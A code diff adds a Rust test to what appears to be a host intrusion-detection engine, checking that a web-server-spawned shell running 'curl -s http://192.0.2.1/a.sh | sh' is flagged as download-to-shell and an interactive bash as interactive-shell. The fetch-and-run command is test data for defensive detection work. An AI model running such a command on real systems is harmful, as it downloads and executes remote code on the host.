@@ -216,4 +216,35 @@ mod tests {
         assert_eq!(v["process"]["executable"], "/usr/local/lib/kworker");
         assert_eq!(v["lineage"]["shell_copy_of"], "/usr/bin/dash");
     }
+
+    /// The alert splits the payload into commands and says what in it always alerts; `sh -c --`
+    /// (glibc 2.38+ system()) reads as `sh -c`.
+    #[test]
+    fn alerts_list_the_payloads_commands_and_indicators() {
+        let mut engine = Engine::new(&Config::default(), HostInfo::default()).expect("engine");
+        let mut alerts = Vec::new();
+        engine.process(exec(1, 10, 1, "/usr/sbin/nginx", &["nginx"]), &mut alerts);
+        let payload = "cd /tmp && curl -s http://192.0.2.1/a.sh | sh";
+        engine.process(
+            exec(2, 11, 10, "/bin/sh", &["sh", "-c", "--", payload]),
+            &mut alerts,
+        );
+        engine.process(exec(3, 12, 10, "/bin/bash", &["bash", "-i"]), &mut alerts);
+        assert_eq!(alerts.len(), 2, "{alerts:#?}");
+        let v = serde_json::to_value(&alerts[0]).expect("json");
+        assert_eq!(
+            v["lineage"]["shell"]["commands"],
+            serde_json::json!(["cd /tmp", "curl -s http://192.0.2.1/a.sh", "sh"])
+        );
+        assert_eq!(
+            v["lineage"]["indicators"],
+            serde_json::json!(["download-to-shell"])
+        );
+        let v = serde_json::to_value(&alerts[1]).expect("json");
+        assert!(v["lineage"].get("shell").is_none(), "no -c payload: {v}");
+        assert_eq!(
+            v["lineage"]["indicators"],
+            serde_json::json!(["interactive-shell"])
+        );
+    }
 }
